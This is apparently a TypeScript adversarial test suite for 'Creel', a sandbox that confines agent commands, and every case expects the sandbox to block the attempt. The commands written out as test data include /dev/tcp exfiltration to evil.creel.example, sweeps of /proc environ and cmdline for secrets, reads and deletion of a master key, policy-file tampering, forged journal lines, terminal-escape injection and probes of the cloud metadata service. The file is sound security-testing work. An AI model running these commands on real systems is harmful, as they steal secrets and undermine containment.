/** Threat: what holds the agent is gone, late or lied to: between start and attach, at a reload, when a part dies, in the command itself. */
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { createConnection } from "node:net";
import { join } from "node:path";
import { setTimeout as delay } from "node:timers/promises";
import { compilePolicy, parsePolicy, policyDigest } from "@creel/policy";
import { groupOf, node, sh } from "../attack.ts";
import { fate, openSandbox } from "../contenders/creel.ts";
import { runCreel, startCreel } from "../creel-run.ts";
import type { Case } from "../model.ts";
import { HOSTS } from "../policy.ts";
import { nextGeneration, restorePolicy, UNDER_ATTACK } from "../reload.ts";
import { BEGAN, type Stage } from "../stage.ts";
import { current, until } from "../under-attack.ts";
import {
  all,
  keptSecret,
  neverPrints,
  noCredential,
  nothingAnywhere,
  nothingReached,
  prints,
  recorded,
  serverGot,
} from "../witness.ts";

const attack = groupOf("lifecycle", ["door"]);
const none = sh("true");
const ESCAPE = "\u001b";
const DENY_ALL = "version: 1\nnetwork_policies: {}\n";

function inForce(yaml: string, generation: number) {
  const { policy } = parsePolicy(yaml);
  if (policy === null) throw new Error("a policy of this file does not parse");
  return { policy: compilePolicy(policy), policyDigest: policyDigest(policy), generation };
}
const resolves = (stage: Stage): string[] =>
  Object.entries(stage.servers.resolve).flatMap(([name, address]) => ["--resolve", `${name}:${address}`]);

const command: Case[] = [
  attack("run-default", "a command run without a policy talks to whoever it likes", {
    promise: "egress-sealed",
    program: none,
    run: (stage) =>
      runCreel(stage, [
        "run",
        ...resolves(stage),
        "--",
        "bash",
        "-c",
        "for t in evil.creel.example/443 api.creel.example/443 127.0.0.1/$0 203.0.113.5/80; do (exec 3<>/dev/tcp/$t; echo stolen >&3; read -t 1 <&3) 2>/dev/null; done; echo over",
        String(stage.servers.ports.loopback),
      ]),
    expect: all(nothingAnywhere, prints(/over/), prints(/creel: denied evil\.creel\.example/)),
  }),
  attack("run-environment", "looks for what the caller's environment holds", {
    promise: "nothing-inherited",
    program: none,
    run: (stage) => runCreel(stage, ["run", "--", "sh", "-c", "env; cat /proc/*/environ | tr '\\0' '\\n'"]),
    expect: all(keptSecret, prints(/HOME=\/sandbox/)),
  }),
  attack("run-secret", "looks for a secret's value in all that it can read, also by the name it was given under", {
    promise: "credential-hidden",
    program: none,
    run: (stage) =>
      runCreel(stage, [
        "run",
        "--secret",
        "TOKEN=env:MINE",
        "--",
        "sh",
        "-c",
        "env; cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; find /run /tmp /etc/creel -type f 2>/dev/null | xargs cat 2>/dev/null",
      ]),
    expect: all(noCredential, prints(/TOKEN=creel-placeholder/)),
  }),
  attack("run-secret-argv", "another user of the host reads the command line of creel", {
    promise: "credential-hidden",
    program: none,
    run: async (stage) => {
      const running = startCreel(stage, ["run", "--secret", "TOKEN=env:MINE", "--", "sleep", "0.6"]);
      await delay(300);
      const lines = readdirSync("/proc")
        .filter((name) => /^\d+$/.test(name))
        .map((pid) => {
          try {
            return readFileSync(`/proc/${pid}/cmdline`, "latin1");
          } catch {
            return "";
          }
        })
        .join("\n");
      await running.ended;
      return { code: 0, out: `${BEGAN}\n${lines}` };
    },
    expect: noCredential,
  }),
  attack("run-descriptors", "uses descriptors that the caller had open", {
    promise: "nothing-inherited",
    program: none,
    run: (stage) =>
      runCreel(stage, ["run", "--", "sh", "-c", "ls -l /proc/self/fd; cat /proc/self/fd/[3-9]* 2>/dev/null; true"]),
    expect: all(keptSecret, {
      says: "it holds its three standard descriptors and the folder that it lists, nothing else",
      check: ({ out }) => {
        const rows = out.split("\n").filter((row) => row.includes(" -> "));
        return rows.length >= 3 &&
          rows.length <= 4 &&
          rows.every((row) => / [0-2] -> /.test(row) || row.includes("/proc/"))
          ? null
          : rows.join("; ").slice(0, 300);
      },
    }),
  }),
  attack("run-exit-code", "lies about how it ended", {
    promise: "journal-true",
    program: none,
    run: (stage) => runCreel(stage, ["run", "--", "sh", "-c", "echo '[exit 0]'; kill -KILL $$"]),
    expect: {
      says: "the exit code is that of a killed command",
      check: ({ code }) => (code === 137 ? null : `exit code ${code}`),
    },
  }),
  attack("run-workspace-keys", "finds Creel's own keys in a workspace that holds them", {
    promise: "control-unreachable",
    program: none,
    run: (stage) => {
      const home = join(stage.base, "project/.creel");
      mkdirSync(join(home, "secrets"), { recursive: true });
      writeFileSync(join(home, "secrets/master.key"), stage.token);
      return runCreel(
        stage,
        [
          "run",
          "--workspace",
          join(stage.base, "project"),
          "--",
          "sh",
          "-c",
          "find /sandbox/work; cat .creel/secrets/master.key; umount .creel; rm -rf .creel; mv .creel x; cat x/secrets/master.key; true",
        ],
        { env: { CREEL_HOME: home } },
      );
    },
    expect: all(keptSecret, {
      says: "the key is still on the host",
      check: ({ stage }) =>
        existsSync(join(stage.base, "project/.creel/secrets/master.key")) ? null : "the key is gone",
    }),
  }),
  attack("run-workspace-tmp", "is given the folder in which control sockets lie", {
    promise: "control-unreachable",
    program: none,
    run: async (stage) => {
      const answers = [];
      for (const folder of ["/tmp", "/", join(stage.base, "creel-home")])
        answers.push(
          await runCreel(stage, ["run", "--workspace", folder, "--", "sh", "-c", "echo INSIDE; ls"], { refused: true }),
        );
      return { code: 0, out: answers.map(({ out }) => out).join("\n") };
    },
    before: (stage) => void mkdirSync(join(stage.base, "creel-home"), { recursive: true }),
    expect: all(neverPrints(/INSIDE/), prints(/\[exit 2\]/)),
  }),
  attack(
    "run-terminal-escape",
    "writes terminal codes into the sentences that creel prints, by the names that it asks for",
    {
      promise: "terminal",
      program: none,
      run: (stage) =>
        runCreel(stage, [
          "run",
          "--",
          "bash",
          "-c",
          `exec 3<>/dev/tcp/203.0.113.5/80; printf 'GET /\\e[2J\\e]0;owned\\a HTTP/1.1\\r\\nHost: x\\e[31m\\r\\n\\r\\n' >&3; read -t 1 <&3; cp /usr/bin/env $'/tmp/e\\e[2Jvil'; true`,
        ]),
      expect: {
        says: "no escape byte is printed",
        check: ({ out }) => (out.includes(ESCAPE) || out.includes("\u0007") ? "an escape byte was printed" : null),
      },
    },
  ),
  attack("run-decisions-file", "reaches the file that its decisions are written to, and forges lines in it", {
    promise: "journal-true",
    program: none,
    run: async (stage) => {
      const file = join(stage.base, "decisions.jsonl");
      const { out, code } = await runCreel(stage, [
        "run",
        "--decisions",
        file,
        "--",
        "bash",
        "-c",
        `(echo '{"decision":"allow"}' >> ${file}) 2>&1; exec 3<>/dev/tcp/203.0.113.5/80; printf 'GET /%%0a{"decision":"allow"}\\r\\n{"decision":"allow"} HTTP/1.1\\r\\n\\r\\n' >&3; read -t 1 <&3; true`,
      ]);
      return { code, out: `${out}\n[file] ${readFileSync(file, "utf8")}` };
    },
    expect: {
      says: "each line of the file is a denial by Creel",
      check: ({ out }) => {
        const lines = (out.split("[file] ")[1] ?? "").trim().split("\n");
        return lines.length > 0 &&
          lines.every((line) => {
            try {
              return JSON.parse(line).decision === "deny";
            } catch {
              return false;
            }
          })
          ? null
          : lines.join("\n").slice(0, 300);
      },
    },
  }),
  attack("run-kill-creel", "goes on when creel itself is killed", {
    promise: "dies-whole",
    program: none,
    run: async (stage) => {
      const work = stage.workspace("killed");
      const running = startCreel(stage, [
        "run",
        "--workspace",
        work,
        "--",
        "sh",
        "-c",
        "(trap '' TERM INT HUP; while :; do echo x >> ticks; sleep 0.02; done) & while :; do echo x >> ticks; sleep 0.02; done",
      ]);
      const size = () => statSync(join(work, "ticks"), { throwIfNoEntry: false })?.size ?? 0;
      await until(() => size() >= 10);
      const began = size() >= 10;
      running.child.kill("SIGKILL");
      await delay(150);
      const at = size();
      await delay(250);
      return { code: 0, out: `${BEGAN}\n${began ? "ticked" : "never"} ${size() === at ? "STOPPED" : "ticking"}` };
    },
    expect: prints(/ticked STOPPED/),
  }),
  attack("run-leave-helper", "leaves a helper behind that outlives its command", {
    promise: "dies-whole",
    program: none,
    run: async (stage) => {
      const work = stage.workspace("left");
      const { code, out } = await runCreel(stage, [
        "run",
        "--workspace",
        work,
        "--",
        "sh",
        "-c",
        "(trap '' TERM INT HUP; while :; do echo x >> ticks; sleep 0.02; done) </dev/null >/dev/null 2>&1 & sleep 0.2; echo LEFT",
      ]);
      const size = () => statSync(join(work, "ticks"), { throwIfNoEntry: false })?.size ?? 0;
      const at = size();
      await delay(250);
      return { code, out: `${out}${at > 0 ? "ticked" : "never"} ${size() === at ? "STOPPED" : "ticking"}` };
    },
    expect: prints(/LEFT[\s\S]*ticked STOPPED/),
  }),
  attack("run-policy-file", "reads and changes the policy that it is under", {
    promise: "control-unreachable",
    program: none,
    run: (stage) => {
      const file = join(stage.hostDir, "policy.yaml");
      writeFileSync(file, DENY_ALL, { mode: 0o666 });
      return runCreel(stage, [
        "run",
        "--policy",
        file,
        "--",
        "sh",
        "-c",
        `cat ${file}; echo broken > ${file}; ls ${stage.hostDir}`,
      ]);
    },
    expect: all(neverPrints(/network_policies/), {
      says: "the file is as it was",
      check: ({ stage }) =>
        readFileSync(join(stage.hostDir, "policy.yaml"), "utf8") === DENY_ALL ? null : "the policy was changed",
    }),
  }),
  attack("run-bad-policy", "is run under a policy that does not parse", {
    promise: "fail-closed",
    program: none,
    run: (stage) => {
      const file = join(stage.base, "bad.yaml");
      writeFileSync(file, "version: 1\nnetwork_policies: {x: {endpoints: [{host: '*', prot: rest}]}}\n");
      return runCreel(stage, ["run", "--policy", file, "--", "sh", "-c", "echo INSIDE"], { refused: true });
    },
    expect: all(neverPrints(/INSIDE$/m), {
      says: "the command is refused",
      check: ({ code }) => (code !== 0 ? null : "exit code 0"),
    }),
  }),
  attack("run-monitor", "uses monitor mode to reach the metadata service and loopback", {
    promise: "addresses",
    program: none,
    run: (stage) =>
      runCreel(stage, [
        "run",
        "--monitor",
        "--",
        "bash",
        "-c",
        `for t in 169.254.169.254/80 127.0.0.1/${stage.servers.ports.loopback}; do (exec 3<>/dev/tcp/$t; printf 'GET / HTTP/1.0\\r\\nHost: 169.254.169.254\\r\\n\\r\\n' >&3; timeout 2 cat <&3); done; true`,
      ]),
    expect: all(nothingAnywhere, prints(/creel: denied 169\.254\.169\.254|denied GET 169\.254/)),
  }),
];

const parts: Case[] = [
  attack("life-no-gateway", "connects before a gateway is there, and while none is", {
    promise: "fail-closed",
    program: node(
      `for (const [a, p] of [["203.0.113.7", 443], ["198.18.0.5", 80]]) say(await rawTcp(a, p, "early", 400)); say(await dnsRaw(Buffer.from("001d0001010000010000000000000465766c076578616d706c650000010001", "hex"), { ms: 300 }))`,
    ),
    run: async (stage, test) => {
      const sandbox = await openSandbox(stage);
      try {
        return await sandbox.run(test);
      } finally {
        await sandbox.end();
      }
    },
    expect: all(nothingAnywhere, neverPrints(/!/)),
  }),
  attack("life-reload-cuts", "keeps a stream open over a reload that takes its host away", {
    promise: "reload",
    program: node(
      `const s = tls.connect({ host: host("api"), port: 443, servername: host("api") }); s.on("error", () => {}); s.on("secureConnect", async () => { s.write("POST /v1/items HTTP/1.1\\r\\nHost: api.creel.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1\\r\\na\\r\\n"); for (let i = 0; i < 100; i++) { await sleep(40); if (!s.destroyed) s.write("1\\r\\nb\\r\\n"); } say("NEVER CUT"); process.exit(0); }); s.on("close", () => { say("CUT"); process.exit(0); })`,
    ),
    run: async (stage, test) => {
      const before = stage.servers.hits.length;
      const running = current.ours().run(test);
      await until(() => stage.servers.hits.length > before);
      const began = performance.now();
      current.ours().gateway().setPolicy(UNDER_ATTACK, inForce(DENY_ALL, nextGeneration()));
      const took = performance.now() - began;
      try {
        const { code, out } = await running;
        return { code, out: `${out}\n[host] reload ${took < 100 ? "quick" : `took ${took}`}` };
      } finally {
        restorePolicy(stage);
      }
    },
    expect: all(serverGot("api", /^POST \/v1\/items/), prints(/^CUT[\s\S]*reload quick/m)),
  }),
  attack("life-reload-next", "sends its next request on an old connection after a reload took its right away", {
    promise: "reload",
    program: node(
      `const agent = new (await import("node:https")).Agent({ keepAlive: true, maxSockets: 1 }); for (let i = 0; i < 40; i++) { const r = await ask("https://" + host("api") + "/v1/reload" + i, { agent }); say(r.failed ?? r.status); await sleep(50); } process.exit(0)`,
    ),
    run: async (stage, test) => {
      const before = stage.servers.hits.length;
      const running = current.ours().run(test);
      await until(() => stage.servers.hits.length > before + 1);
      current.ours().gateway().setPolicy(UNDER_ATTACK, inForce(DENY_ALL, nextGeneration()));
      const at = stage.servers.hits.length;
      try {
        const { code, out } = await running;
        return { code, out: `${out}\n[host] ${stage.servers.hits.length - at} after` };
      } finally {
        restorePolicy(stage);
      }
    },
    expect: prints(/^200[\s\S]*\[host\] 0 after/m),
  }),
  attack("life-shim-killed", "goes on when the shim that holds its sockets is killed", {
    promise: "dies-whole",
    program: sh('(trap "" TERM HUP; while :; do echo x >> "$WORK/ticks"; sleep 0.02; done) & sleep 5'),
    run: async (stage, test) => {
      const sandbox = await openSandbox(stage);
      const size = () => statSync(join(sandbox.work, "ticks"), { throwIfNoEntry: false })?.size ?? 0;
      const running = sandbox.run(test).catch(() => ({ code: null, out: BEGAN }));
      for (let i = 0; i < 200 && size() < 5; i += 1) await delay(10);
      process.kill(sandbox.shimPid, "SIGKILL");
      await delay(150);
      const at = size();
      await delay(250);
      await running;
      sandbox.control.close();
      return { code: 0, out: `${BEGAN}\n${at > 0 ? "ticked" : "never"} ${size() === at ? "STOPPED" : "ticking"}` };
    },
    expect: prints(/ticked STOPPED/),
  }),
  attack("life-kill-switch", "is killed from outside while it forks and ignores signals", {
    promise: "kill-switch",
    program: none,
    run: async (stage) => {
      const sandbox = await openSandbox(stage, {
        command: ["sh", "-c", "trap '' TERM INT HUP QUIT; while :; do (trap '' TERM; sleep 100) & sleep 0.01; done"],
        limits: { processes: 60 },
      });
      await delay(150);
      const began = performance.now();
      await sandbox.control.kill();
      const took = performance.now() - began;
      return {
        code: 0,
        out: `${BEGAN}\n[host] ${await fate(sandbox)} ${took < 1_000 ? "IN TIME" : `after ${took} ms`}`,
      };
    },
    expect: prints(/ended killed IN TIME/),
  }),
  attack("life-control-socket-perms", "another user of the host speaks to the sandbox's control socket", {
    promise: "control-unreachable",
    program: none,
    run: async () => {
      const { runDir, stateDir } = current.sandbox();
      const modes = [runDir, stateDir].map((path) => (statSync(path).mode & 0o777).toString(8));
      const log = statSync(join(stateDir, "log"), { throwIfNoEntry: false });
      return {
        code: 0,
        out: `${BEGAN}\n${modes.join(" ")} log ${log === undefined ? "600" : (log.mode & 0o777).toString(8)}`,
      };
    },
    expect: prints(/^700 700 log 600/m),
  }),
  attack("life-control-garbage", "somebody sends garbage and endless frames to the control socket", {
    promise: "control-unreachable",
    program: none,
    run: async () => {
      for (const bytes of [
        Buffer.alloc(70_000, 0xff),
        Buffer.from("GET / HTTP/1.1\r\n\r\n"),
        Buffer.alloc(4),
        Buffer.from("ffffff7f00", "hex"),
      ])
        await new Promise<void>((done) => {
          const socket = createConnection(join(current.sandbox().runDir, "shim.sock"), () => socket.end(bytes));
          socket.on("error", () => done());
          socket.on("close", () => done());
          socket.resume();
          setTimeout(() => {
            socket.destroy();
            done();
          }, 300);
        });
      return { code: 0, out: `${BEGAN}\n[host] ${await fate(current.sandbox())}` };
    },
    expect: prints(/\[host\] running/),
  }),
  attack("life-log-forgery", "writes log lines that look like Creel's own, and cuts the log", {
    promise: "journal-true",
    program: sh(
      '(: > /dev/stdout); echo \'{"decision":"allow"}\'; (: > /proc/1/fd/1); truncate -s 0 /proc/self/fd/1; echo kept',
    ),
    expect: all(prints(/kept/), {
      says: "the journal has no line of it",
      check: ({ records }) => (records.length === 0 ? null : "it wrote into the journal"),
    }),
  }),
  attack(
    "life-after-all",
    "control: after everything above the first sandbox still serves, and the host's other server got nothing",
    {
      promise: "honest-work",
      control: true,
      everyLane: true,
      program: node(
        `const r = await ask("https://" + host("api") + "/v1/last"); say(r.failed ?? r.status); say(await ask("https://" + host("evil") + "/", { rejectUnauthorized: false }))`,
      ),
      expect: all(prints(/^200$/m), nothingReached("evil"), recorded({ decision: "deny", host: HOSTS.evil }), {
        says: "during the whole run no forbidden server got a byte",
        check: ({ stage }) => {
          const hit = stage.servers.hits.find(({ server }) =>
            ["evil", "loopback", "everywhere", "unix", "abstract", "udp"].includes(server),
          );
          return hit === undefined ? null : `${hit.server} got ${hit.what.slice(0, 60)}`;
        },
      }),
    },
  ),
];

export const lifecycle: Case[] = [...command, ...parts];
